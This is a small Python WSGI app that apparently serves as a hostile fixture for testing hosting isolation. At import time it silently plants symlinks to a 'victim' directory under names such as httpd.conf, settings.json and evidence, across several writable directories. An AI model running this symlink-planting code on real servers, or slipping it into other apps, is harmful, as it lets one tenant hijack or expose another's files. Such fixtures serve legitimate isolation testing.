"""Plants links to another's directory in each directory that it may write."""

import os
from contextlib import suppress
from pathlib import Path

EXPECT = {"pass", "fail", "inconclusive", "error"}

RUN = Path(__file__).resolve().parents[2]
EVIDENCE = RUN / "evidence"
VICTIM = RUN.parent.parent / "victim"
for directory in (RUN, RUN / "app", RUN.parent, EVIDENCE, Path("/proc/self/cwd")):
    for name in ("app", "evidence", "httpd.conf", "settings.json", "mod_wsgi.pid", "planted"):
        with suppress(OSError):
            os.symlink(VICTIM, directory / name)


def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"answer"]
